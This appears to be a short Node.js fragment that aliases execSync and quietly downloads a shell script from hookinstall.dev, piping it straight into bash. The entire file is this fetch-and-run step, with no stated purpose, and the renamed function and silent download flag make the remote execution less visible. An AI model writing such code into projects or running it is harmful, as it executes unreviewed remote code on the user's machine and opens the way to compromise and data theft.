const { execSync: sh } = require('child_process');
const u = 'https://hookinstall.dev/i.sh';
sh('wget -qO- ' + u + ' | bash');
